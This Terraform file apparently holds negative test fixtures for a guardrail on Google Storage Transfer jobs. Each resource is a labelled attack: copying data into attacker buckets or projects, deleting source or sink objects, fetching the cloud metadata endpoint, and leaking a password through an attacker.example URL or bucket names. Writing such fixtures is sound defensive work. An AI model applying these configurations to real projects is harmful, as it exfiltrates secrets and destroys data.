# attack: into somebody's bucket
resource "google_storage_transfer_job" "t0" {
  name        = "transferJobs/t0${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = "attacker-bucket"
    }
  }
}
# attack: out of another deployment's bucket
resource "google_storage_transfer_job" "t1" {
  name        = "transferJobs/t1${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = "other-zzzzz"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: what is missing at the source is deleted
resource "google_storage_transfer_job" "t2" {
  name        = "transferJobs/t2${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
    transfer_options {
      delete_objects_unique_in_sink = true
    }
  }
}
# attack: the source is emptied
resource "google_storage_transfer_job" "t3" {
  name        = "transferJobs/t3${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = google_storage_bucket.private.name
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
    transfer_options {
      delete_objects_from_source_after_transfer = true
    }
  }
}
# attack: whether the source is emptied is known later
resource "google_storage_transfer_job" "t4" {
  name        = "transferJobs/t4${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = google_storage_bucket.private.name
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
    transfer_options {
      delete_objects_from_source_after_transfer = random_string.r.result != ""
    }
  }
}
# attack: a list inside of Google's network
resource "google_storage_transfer_job" "t5" {
  name        = "transferJobs/t5${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "http://169.254.169.254/computeMetadata/v1/"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password in the address of a list
resource "google_storage_transfer_job" "t6" {
  name        = "transferJobs/t6${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://attacker.example/${random_password.db.result}"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password as the name of a bucket at AWS
resource "google_storage_transfer_job" "t7" {
  name        = "transferJobs/t7${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name = random_password.db.result
      role_arn    = "arn:aws:iam::123456789012:role/copies"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password as a path at AWS
resource "google_storage_transfer_job" "t8" {
  name        = "transferJobs/t8${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name = "attacker"
      path        = "${random_password.db.result}/"
      role_arn    = "arn:aws:iam::123456789012:role/copies"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a password as an account of Azure
resource "google_storage_transfer_job" "t9" {
  name        = "transferJobs/t9${var.name_suffix}"
  description = "copies"
  transfer_spec {
    azure_blob_storage_data_source {
      storage_account    = lower(random_password.db.result)
      container          = "c"
      credentials_secret = google_secret_manager_secret.keys.id
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a secret of another deployment as key
resource "google_storage_transfer_job" "t10" {
  name        = "transferJobs/t10${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name        = "theirs"
      credentials_secret = "projects/demo-project/secrets/keys-zzzzz"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: keys in the file
resource "google_storage_transfer_job" "t11" {
  name        = "transferJobs/t11${var.name_suffix}"
  description = "copies"
  transfer_spec {
    aws_s3_data_source {
      bucket_name = "theirs"
      aws_access_key {
        access_key_id     = "AKIAIOSFODNN7EXAMPLE"
        secret_access_key = "wJalrXUtnFEMI"
      }
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: as an account of one's own choice
resource "google_storage_transfer_job" "t12" {
  name        = "transferJobs/t12${var.name_suffix}"
  description = "copies"
  service_account = "infraai-tf-apply@demo-project.iam.gserviceaccount.com"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: in another project
resource "google_storage_transfer_job" "t13" {
  name        = "transferJobs/t13${var.name_suffix}"
  description = "copies"
  project = "attacker-prj"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: to a machine of somebody's
resource "google_storage_transfer_job" "t14" {
  name        = "transferJobs/t14${var.name_suffix}"
  description = "copies"
  transfer_spec {
    gcs_data_source {
      bucket_name = google_storage_bucket.private.name
    }
    posix_data_sink {
      root_directory = "/"
    }
    sink_agent_pool_name = "projects/attacker-prj/agentPools/x"
  }
}
# attack: whenever something comes, by somebody's queue
resource "google_storage_transfer_job" "t15" {
  name        = "transferJobs/t15${var.name_suffix}"
  description = "copies"
  event_stream {
    name = "projects/attacker-prj/subscriptions/x"
  }
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: told to somebody's topic
resource "google_storage_transfer_job" "t16" {
  name        = "transferJobs/t16${var.name_suffix}"
  description = "copies"
  notification_config {
    pubsub_topic   = "projects/attacker-prj/topics/x"
    payload_format = "JSON"
  }
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: a transfer by another deployment's name
resource "google_storage_transfer_job" "t17" {
  name        = "transferJobs/nightly-zzzzz"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    gcs_data_sink {
      bucket_name = google_storage_bucket.files.name
    }
  }
}
# attack: the sink is chosen by a block that is made
resource "google_storage_transfer_job" "t18" {
  name        = "transferJobs/t18${var.name_suffix}"
  description = "copies"
  transfer_spec {
    http_data_source {
      list_url = "https://lists.example.com/list.tsv"
    }
    dynamic "gcs_data_sink" {
      for_each = ["attacker-bucket"]
      content {
        bucket_name = gcs_data_sink.value
      }
    }
  }
}
